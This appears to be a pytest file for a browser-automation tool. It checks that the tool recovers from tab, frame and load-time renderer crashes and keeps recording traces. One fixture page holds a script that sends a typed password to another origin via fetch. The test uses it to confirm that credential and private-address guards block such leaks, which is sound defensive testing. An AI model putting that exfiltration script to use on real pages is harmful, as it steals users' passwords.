"""A tab that crashes is told, and the session goes on: the next opening shows the app again, with everybody watching."""

from __future__ import annotations

import asyncio
import zipfile
from pathlib import Path

import pytest

from explorer.request.account import Account
from explorer.request.credential import Login
from explorer.request.reach import reach_of
from explorer.request.scope import scope_of
from explorer.surfaces.surface import CREDENTIALS, LIMITS
from explorer.surfaces.web.recorder import Recorder
from explorer.surfaces.web.surface import WebSurface
from flows.screen import Screen
from flows.signals import Family
from flows.step import Action, ActionKind
from tests.explorer.surfaces.web_world import World, named, tap, told

pytestmark = pytest.mark.asyncio(loop_scope="module")

TABS = {
    "the main tab": [],
    "a tab that the app opened": ["opened apart"],
    "a tab that shares its process with its opener": ["opened together"],
    "a tab that the user opened": ["new"],
    "the tab that was switched to": ["opened apart", "0"],
}
HOME = """<h1>Desk</h1><a href=/more target=_blank>opened apart</a> <a href=/more target=_blank rel=opener>opened together</a>"""


async def crash(surface: WebSurface, session: str = "") -> None:
    """Let a renderer crash (CDP `Page.crash`; Firefox has nothing like it), and wait until the browser says so."""
    watch = surface.tab.watch
    session = session or surface.tab.session
    watch.cdp.post(session, "Page.crash")
    async with asyncio.timeout(20):
        while not watch.targets[session].crashed:
            watch.stir.clear()
            await watch.stir.wait()


async def opened(surface: WebSurface) -> Screen:
    """Open the start, as a person does who sees nothing."""
    acted = await surface.open()
    settled = await surface.settle(10)
    assert (acted.problem, settled.how) == ("", "quiet")
    return await surface.observe()


@pytest.mark.parametrize("tab", TABS)
async def test_the_start_opens_again_after_a_crash(world: World, tab: str) -> None:
    world.pages["/more"] = "<h1>More</h1>"
    async with world.surface(HOME) as surface:
        for name in TABS[tab]:
            switch = name == "new" or name.isdigit()
            act = Action(ActionKind.SWITCH, text=name) if switch else tap(named(await surface.observe(), name))
            assert (await surface.act(act)).problem == ""
            await surface.settle(10)
        await crash(surface)
        assert (await surface.settle(10)).how == "crashed"
        assert (await surface.observe()).blank
        assert "crashed" in (await surface.act(Action(ActionKind.PRESS, text="Escape"))).problem
        assert "Desk" in (await opened(surface)).words()
        assert not surface.tab.watch.crashed, "no tab is left that shows nothing"
        signals, _ = await told(surface, Family.CRASH)
        assert signals, "the crash itself is told"
        await surface.act(tap(named(await surface.observe(), "opened apart")))
        await surface.settle(10)
        assert "More" in (await surface.observe()).words()


async def test_an_app_that_crashes_as_it_is_opened_opens_again(world: World) -> None:
    world.pages["/dies"] = "<h1>Desk</h1><script src=/hang></script>"
    surface = await world.browser.surface("t", f"{world.origin('good')}/dies")
    try:
        await surface.open()
        watch, page = surface.tab.watch, surface.tab.page
        async with asyncio.TaskGroup() as tasks, asyncio.timeout(20):
            settling = tasks.create_task(surface.settle(20))
            while not any(r.url.endswith("/hang") for r in watch.asked.outstanding(page, 0)):
                watch.stir.clear()
                await watch.stir.wait()
            await crash(surface)
        assert settling.result().how == "crashed"
        world.pages["/dies"] = "<h1>Desk</h1>"
        assert "Desk" in (await opened(surface)).words()
    finally:
        await surface.close()


@pytest.mark.parametrize("kind", [ActionKind.BACK, ActionKind.RELAUNCH])
async def test_back_and_reload_leave_a_crashed_tab(world: World, kind: ActionKind) -> None:
    world.pages["/more"] = "<h1>More</h1>"
    async with world.surface("<h1>Desk</h1><a href=/more>on</a>") as surface:
        await surface.act(tap(named(await surface.observe(), "on")))
        await surface.settle(10)
        await crash(surface)
        assert (await surface.act(Action(kind))).problem == ""
        await surface.settle(10)
        assert (await surface.observe()).title == "" and surface.tab.watch.crashed == set()
        assert ("Desk" if kind is ActionKind.BACK else "More") in (await surface.observe()).words()


async def test_login_border_and_counter_proof_hold_in_the_tab_that_follows(world: World) -> None:
    world.pages["/past"] = "<h1>Let past</h1>"
    account = Account(Login.of("annabel", "right-horse"), scope_of("https://site.test/"))
    page = """<form id=f><label>Password <input type=password name=p></label><button>Go</button></form>
<script>f.onsubmit = e => { e.preventDefault(); fetch('{other}/take?p=' + f.p.value, {mode: 'no-cors'}) }</script>
<a href='{plain}/inside'>inside</a><a href='{bad}/past'>past</a>"""
    page = page.replace("{plain}", f"http://127.0.0.1:{world.plain}")
    past = frozenset({(world.bad.names[0], world.bad.port)})
    reach = reach_of(world.origin("good"), world.resolve)
    async with world.surface(page, account=account, let_past=past, reach=reach) as surface:
        await crash(surface)
        await opened(surface)
        world.asked.clear()
        field = named(await surface.observe(), "Password")
        await surface.act(Action(ActionKind.TYPE, field.ref, text="placeholder", credential="password"))
        for name in ("Go", "inside", "past"):
            await surface.act(tap(named(await surface.observe(), name)))
            await surface.settle(10)
        kinds = {(r.source, r.kind) for r in surface.drain() if r.source in (CREDENTIALS, LIMITS)}
        assert kinds == {(CREDENTIALS, "stopped"), (LIMITS, "private-address")}
        assert "Let past" in (await surface.observe()).words() and {"/take", "/inside"}.isdisjoint(world.asked)


async def test_a_frame_that_crashes_takes_nothing_but_itself(world: World) -> None:
    world.pages["/inner"] = "<button>Inside</button>"
    page = "<button onclick=\"this.textContent='Pressed'\">Outside</button><iframe src='{other}/inner'></iframe>"
    async with world.surface(page) as surface:
        watch = surface.tab.watch
        assert "Inside" in (await surface.observe()).words()
        await crash(surface, next(t.session for t in watch.targets.values() if t.kind == "iframe"))
        assert (await surface.settle(10)).how == "quiet"
        screen = await surface.observe()
        assert [f.blank for f in screen.frames] == [False, True]
        await surface.act(tap(named(screen, "Outside")))
        assert "Pressed" in (await surface.observe()).words()


async def test_the_recording_goes_on_in_the_tab_that_follows(world: World, tmp_path: Path) -> None:
    world.pages["/"] = "<h1>Desk</h1>"
    recorder = Recorder(tmp_path, "s", frozenset({"trace"}))
    surface = await world.browser.surface("t", f"{world.origin('good')}/", recorder=recorder)
    try:
        await opened(surface)
        await crash(surface)
        world.pages["/"] = "<h1>Desk after the crash</h1>"
        await opened(surface)
        await surface.act(Action(ActionKind.SCROLL))
    finally:
        await surface.close()
    with zipfile.ZipFile(tmp_path / "s.trace.zip") as trace:
        assert "Desk after the crash" in trace.read("trace.trace").decode()
